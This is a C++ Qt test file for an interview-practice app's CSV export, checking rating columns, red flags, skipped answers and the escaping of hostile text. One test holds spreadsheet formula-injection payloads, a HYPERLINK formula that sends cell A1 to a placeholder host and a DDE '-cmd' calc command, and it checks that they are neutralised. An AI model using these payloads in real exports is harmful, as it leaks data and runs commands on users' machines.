#include "ReportFixture.h"

#include "library/LibraryStore.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QSaveFile>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace std::chrono_literals;
using namespace MockLoop;

// The answers CSV as Python's csv module reads it (tests/core/reports/read_csv.py): one column per
// rubric dimension and rating, red flags by name, rating notes, skipped answers, the measured
// figures, and hostile text (commas, quotes, newlines) back exactly as it was written.
class CsvExportTest : public QObject
{
    Q_OBJECT

private:
    struct Parsed
    {
        QStringList header;
        QList<QStringList> rows;
        QString value(int row, const QString &column) const { return rows.at(row).value(header.indexOf(column)); }
    };

    Parsed exportAndRead(const LibraryStore::RedFlagName &names)
    {
        const QString path = m_dir.filePath(u"answers.csv"_s);
        QSaveFile file(path);
        if (!file.open(QIODevice::WriteOnly) || !m_store->exportCsv({}, &file, names) || !file.commit())
            qFatal("could not export: %s", qPrintable(m_store->lastError()));
        QProcess python;
        python.start(u"/usr/bin/python3"_s,
                     {QStringLiteral(MOCKLOOP_SOURCE_DIR "/tests/core/reports/read_csv.py"), path});
        if (!python.waitForFinished(60000) || python.exitCode() != 0)
            qFatal("python could not read the CSV: %s", python.readAllStandardError().constData());
        const QJsonObject json = QJsonDocument::fromJson(python.readAllStandardOutput()).object();
        Parsed parsed;
        for (const QJsonValue &name : json.value(u"header"_s).toArray())
            parsed.header << name.toString();
        for (const QJsonValue &row : json.value(u"rows"_s).toArray()) {
            QStringList fields;
            for (const QJsonValue &field : row.toArray())
                fields << field.toString();
            parsed.rows << fields;
        }
        return parsed;
    }

    // A question of session s1 skipped: no rating, no take.
    static LibraryStore::NewAnswer skippedAnswer(int ordinal, const QString &roundTitle, const QString &questionText)
    {
        LibraryStore::NewAnswer skipped;
        skipped.sessionId = u"s1"_s;
        skipped.answeredAt = QDateTime(QDate(2026, 11, 2), QTime(10, 0), Qt::UTC);
        skipped.roundTitle = roundTitle;
        skipped.record.ordinal = ordinal;
        skipped.record.roundId = u"hm"_s;
        skipped.record.questionId = u"q%1"_s.arg(ordinal + 1);
        skipped.record.questionText = questionText;
        skipped.record.skipped = true;
        skipped.record.ratingSkipped = true;
        return skipped;
    }

    QTemporaryDir m_dir;
    std::unique_ptr<LibraryStore> m_store;

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_store = LibraryStore::open(m_dir.filePath(u"library"_s)).store;
        QVERIFY(m_store);
        ReportFixture::fill(*m_store, 3, true);
        // A skipped question: no rating, no take.
        QVERIFY(m_store->addAnswer(skippedAnswer(3, u"Hiring Manager"_s, u"Skipped, \"quoted\", question"_s)));
    }

    void pythonReadsOneColumnPerDimensionAndRating()
    {
        const std::shared_ptr<const Loop> loop = ReportFixture::loop();
        const Parsed csv = exportAndRead([loop](const QString &loopId, const QString &flagId) {
            return loopId == loop->id && flagId == u"blame"_s ? loop->redFlagGroups.first().flags.first().text
                                                              : QString();
        });
        QCOMPARE(csv.rows.size(), 4);
        for (const QString &column :
             {u"impact_right_after"_s, u"impact_after_replay"_s, u"impact_coach"_s, u"judgment_right_after"_s,
              u"judgment_after_replay"_s, u"judgment_coach"_s, u"skipped"_s, u"red_flags_right_after"_s,
              u"red_flags_after_replay"_s, u"rating_notes"_s, u"words_per_minute"_s, u"likely_fillers_per_minute"_s,
              u"longest_pause_seconds"_s})
            QVERIFY2(csv.header.contains(column), qPrintable(column));

        // Answer 1: judgment 2 right after, 4 after the replay, the flag by its name.
        QCOMPARE(csv.value(0, u"judgment_right_after"_s), u"2"_s);
        QCOMPARE(csv.value(0, u"judgment_after_replay"_s), u"4"_s);
        QCOMPARE(csv.value(0, u"impact_right_after"_s), u"3"_s);
        QCOMPARE(csv.value(0, u"judgment_coach"_s), QString());
        QCOMPARE(csv.value(0, u"red_flags_right_after"_s), u"Blames others"_s);
        QCOMPARE(csv.value(0, u"red_flags_after_replay"_s), QString());
        QCOMPARE(csv.value(0, u"rating_notes"_s), u"Right after: Rated note 1; After replay: Better on replay"_s);
        QCOMPARE(csv.value(0, u"skipped"_s), u"no"_s);
        QCOMPARE(csv.value(0, u"words_per_minute"_s), u"141.0"_s);
        QCOMPARE(csv.value(0, u"likely_fillers_per_minute"_s), u"1.5"_s);
        QCOMPARE(csv.value(0, u"longest_pause_seconds"_s), u"3.0"_s);
        QCOMPARE(csv.value(0, u"answer_seconds"_s), u"150.0"_s);
        QCOMPARE(csv.value(0, u"overtime_seconds"_s), u"30.0"_s);
        // Answer 2: no replay, judgment 3.
        QCOMPARE(csv.value(1, u"judgment_right_after"_s), u"3"_s);
        QCOMPARE(csv.value(1, u"judgment_after_replay"_s), QString());
        // Answer 3 (the last) has hostile text with a newline, quotes and pipes: back as written.
        QCOMPARE(csv.value(2, u"question"_s), ReportFixture::HostileQuestion);
        QCOMPARE(csv.value(2, u"notes"_s), ReportFixture::HostileNote);
        QCOMPARE(csv.value(2, u"rating_notes"_s), u"Right after: "_s + ReportFixture::HostileNote);
        // The skipped question.
        QCOMPARE(csv.value(3, u"skipped"_s), u"yes"_s);
        QCOMPARE(csv.value(3, u"question"_s), u"Skipped, \"quoted\", question"_s);
        QCOMPARE(csv.value(3, u"judgment_right_after"_s), QString());
        QCOMPARE(csv.value(3, u"words_per_minute"_s), QString());
    }

    // Text that a spreadsheet would run as a formula (a shared loop's question, notes, a coach's
    // notes imported from a file) opens as text: an apostrophe before it. Numbers stay numbers.
    void formulaLikeText_opensAsTextInASpreadsheet()
    {
        QTemporaryDir dir;
        std::unique_ptr<LibraryStore> store = LibraryStore::open(dir.filePath(u"library"_s)).store;
        QVERIFY(store);
        SessionRecord session;
        session.id = u"s1"_s;
        session.mode = SessionMode::OneRound;
        session.loopId = u"shared-loop"_s;
        session.loopTitle = u"+Shared loop"_s;
        session.startedAt = QDateTime(QDate(2026, 11, 2), QTime(9, 0), Qt::UTC);
        QVERIFY(store->addSession(session));
        QVERIFY(store->addAnswer(
            skippedAnswer(0, u"@SUM(1+1)"_s, u"=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")"_s)));
        const qint64 id = store->answers({}, AnswerSort::Date, Qt::AscendingOrder).constFirst().id;
        QVERIFY(store->setNotes(id, u"-cmd|' /C calc'!A0"_s));

        std::swap(store, m_store);
        const Parsed csv = exportAndRead({});
        std::swap(store, m_store);
        QCOMPARE(csv.rows.size(), 1);
        QCOMPARE(csv.value(0, u"question"_s), u"'=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")"_s);
        QCOMPARE(csv.value(0, u"round"_s), u"'@SUM(1+1)"_s);
        QCOMPARE(csv.value(0, u"loop"_s), u"'+Shared loop"_s);
        QCOMPARE(csv.value(0, u"notes"_s), u"'-cmd|' /C calc'!A0"_s);
        QCOMPARE(csv.value(0, u"answer_seconds"_s), u"0.0"_s);
    }

    void withoutNamesTheFlagIdIsWritten()
    {
        const Parsed csv = exportAndRead({});
        QCOMPARE(csv.value(0, u"red_flags_right_after"_s), u"blame"_s);
    }
};

QTEST_GUILESS_MAIN(CsvExportTest)
#include "csv_export_test.moc"
